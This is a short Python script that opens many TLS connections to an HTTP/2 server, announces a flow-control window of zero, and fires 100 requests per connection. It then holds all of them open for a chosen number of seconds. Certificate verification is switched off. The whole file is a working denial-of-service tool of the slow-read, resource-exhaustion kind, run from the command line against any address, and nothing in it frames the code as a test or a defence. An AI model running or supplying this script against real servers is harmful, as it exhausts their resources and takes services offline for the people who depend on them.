"""HTTP/2 clients that ask for much and take no answer's body: python3 no_window.py ADDRESS CONNECTIONS SECONDS.

Each announces a window of 0 and sends as many requests as a connection may have in flight. All of them wait until the
time is over."""

from __future__ import annotations

import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS = 1, 4
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INITIAL_WINDOW_SIZE = 4
STREAMS = 100
GET = b"\x82\x87\x84\x41\x01a"
"""GET https://a/ in HPACK: three entries of its static table, and a literal."""


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """One frame of RFC 9113."""
    return struct.pack("!I", len(content))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + content


def requests() -> bytes:
    """All that a client sends."""
    settings = frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, ACK, 0, b"")
    asked = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, GET) for number in range(STREAMS))
    return PREFACE + settings + b"".join(asked)


def main(address: str, connections: int, seconds: float) -> None:
    """Open the connections, send everything, and wait."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    end = time.monotonic() + seconds
    held = []
    while len(held) < connections and time.monotonic() < end:
        client = context.wrap_socket(socket.create_connection((address, 443), 10))
        client.sendall(requests())
        held.append(client)
    time.sleep(max(0.0, end - time.monotonic()))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
